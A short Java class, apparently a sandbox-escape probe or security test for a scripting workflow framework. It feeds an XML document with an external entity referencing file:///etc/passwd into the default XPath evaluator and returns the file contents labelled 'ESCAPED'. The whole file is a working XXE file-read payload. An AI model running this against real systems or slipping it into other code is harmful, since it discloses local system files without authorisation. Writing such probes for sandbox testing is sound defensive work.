import io.countersign.script.*;
import java.util.*;
import javax.xml.xpath.*;
import org.w3c.dom.*;
import org.xml.sax.InputSource;
import java.io.*;

public class XmlPathEntity implements Workflow {
    @Override
    public WorkflowResult run(WorkflowContext ctx) throws Exception {
        String xml = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        return WorkflowResult.ok("ESCAPED: " + XPathFactory.newInstance().newXPath().evaluate("/a", new InputSource(new StringReader(xml))));
    }
}
